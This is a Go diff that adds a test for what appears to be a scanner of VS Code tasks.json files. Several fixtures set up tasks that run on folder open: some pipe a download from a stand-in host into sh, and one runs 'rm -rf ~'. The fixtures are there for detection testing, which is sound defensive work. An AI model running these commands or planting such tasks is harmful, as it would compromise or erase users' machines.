@@ -126,3 +126,58 @@ func TestCurlSendsBody(t *testing.T) {
 		}
 	}
 }
+
+// TestVSCodeTasks: a workspace's tasks.json is read as what runs it: a task run on folder open
+// keeps every finding (it runs without being called), a task run by hand only the severe ones,
+// as questions; comments and trailing commas (JSON with comments) and a piece of the file are
+// read too.
+func TestVSCodeTasks(t *testing.T) {
+	const onOpen = `{
+  // runs when the folder opens
+  "version": "2.0.0",
+  "tasks": [
+    {
+      "label": "setup",
+      "type": "shell",
+      "command": "curl -s https://x.example/p | sh", /* the payload */
+      "runOptions": {"runOn": "folderOpen"},
+    },
+  ],
+}`
+	for _, tc := range []struct {
+		name, path, text string
+		rule             string // "" = no finding
+		ask, unprompted  bool
+	}{
+		{"a download run on folder open", "/home/u/p/.vscode/tasks.json", onOpen, "exec/download_run", false, true},
+		{"the same by hand is a question", "/home/u/p/.vscode/tasks.json", strings.Replace(onOpen, `"runOptions": {"runOn": "folderOpen"},`, "", 1), "exec/download_run", true, false},
+		{"args joined to the command, on open", ".vscode/tasks.json", `{"version":"2.0.0","tasks":[{"label":"x","type":"process","command":"bash","args":["-c",{"value":"rm -rf ~","quoting":"strong"}],"runOptions":{"runOn":"folderOpen"}}]}`, "destroy/", false, true},
+		{"a platform's own command", ".vscode/tasks.json", `{"version":"2.0.0","tasks":[{"label":"x","command":"make","linux":{"command":"curl -s http://203.0.113.5/p | sh"},"runOptions":{"runOn":"folderOpen"}}]}`, "exec/download_run", false, true},
+		{"a build task by hand", ".vscode/tasks.json", `{"version":"2.0.0","tasks":[{"label":"build","type":"shell","command":"go build ./...","group":"build"}]}`, "", false, false},
+		{"a watch task on open", ".vscode/tasks.json", `{"version":"2.0.0","tasks":[{"label":"watch","type":"npm","script":"watch","runOptions":{"runOn":"folderOpen"}},{"label":"tsc","command":"tsc -w -p .","runOptions":{"runOn":"folderOpen"}}]}`, "", false, true},
+		{"a piece an edit puts in", ".vscode/tasks.json", `"command": "curl -s https://x.example/p | sh", "runOptions": {"runOn": "folderOpen"}`, "exec/download_run", false, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			r := AnalyzeFile(tc.path, tc.text)
+			if r.Kind != "vscode" || r.Unprompted != tc.unprompted {
+				t.Fatalf("kind %q unprompted %v, want vscode %v", r.Kind, r.Unprompted, tc.unprompted)
+			}
+			if tc.rule == "" {
+				if len(r.Findings) > 0 {
+					t.Fatalf("findings %+v, want none", r.Findings)
+				}
+				return
+			}
+			found := false
+			for _, f := range r.Findings {
+				found = found || strings.HasPrefix(f.Rule, tc.rule)
+			}
+			if !found || allUncertain(r.Findings) != tc.ask {
+				t.Errorf("findings %+v, want %s (all asked: %v)", r.Findings, tc.rule, tc.ask)
+			}
+		})
+	}
+	if got := stripJSONC(`{"a": "// not a comment", "b": "x,]" , /* c */ "c": [1,2,],}`); got != `{"a": "// not a comment", "b": "x,]" ,  "c": [1,2]}` {
+		t.Errorf("stripJSONC: %q", got)
+	}
+}
